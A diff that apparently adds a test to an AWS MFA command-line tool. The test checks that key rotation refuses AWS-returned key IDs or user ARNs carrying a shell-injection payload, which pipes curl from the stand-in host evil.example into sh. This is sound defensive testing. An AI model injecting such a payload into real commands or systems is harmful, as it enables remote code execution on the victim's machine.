@@ -269,6 +269,30 @@ test('whoami: an ARN with a line feed from STS cannot forge "MFA: yes" or "Accou
   assert.equal(r.stdout.trimEnd().split('\n').length, 6, r.stdout);
 });
 
+test('rotate: a key id or a user name from AWS that would be a shell command in the commands it suggests is refused (exit 4), no key made or changed', async () => {
+  const injection = ';curl${IFS}-s${IFS}evil.example|sh;#';
+  for (const script of [
+    { accessKeys: ['AKIAHOSTILETEST00000', `AKIAX${injection}`] },
+    { arn: `arn:aws:iam::123456789012:user/alice${injection}`, accessKeys: ['AKIAHOSTILETEST00000', 'AKIAOTHERKEY00000000'] },
+  ]) {
+    const s = await fakeAws(script);
+    const h = awsHome(s);
+    const before = h.read();
+    for (const lang of ['en', 'ja']) {
+      const r = await runCli(['rotate', '--profile', 'w', '--token', '123456'], { env: { ...h.env, AWS_MFA_LANG: lang } });
+      const what = `${JSON.stringify(script)} (${lang})`;
+      assert.equal(r.code, 4, `${what}: ${r.stderr}`);
+      assert.match(r.stderr, /(ListAccessKeys|GetCallerIdentity) .*(AccessKeyId|Arn)/, what);
+      assert.doesNotMatch(r.stdout + r.stderr, /curl|evil/, `${what}: the value is never shown`);
+      const errors = r.stderr.split('\n').filter((l) => /^aws-mfa: (error|エラー):/.test(l));
+      assert.equal(errors.length, 1, `${what}: one error line: ${r.stderr}`);
+    }
+    assert.ok(!s.actions.includes('CreateAccessKey') && !s.actions.some((a) => a.startsWith('Delete')), s.actions.join());
+    // the session it got first is kept in [w]; the long-term key is as it was
+    assert.ok(h.read().startsWith(before), h.read());
+  }
+});
+
 test('--qr-png never replaces an existing file (~/.aws/credentials included) without --overwrite: exit 3 before any AWS call', async () => {
   for (const command of [['device', 'create'], ['init', '--access-key-id', 'AKIAHOSTILETEST00000', '--secret-access-key-stdin']]) {
     const s = await fakeAws({});
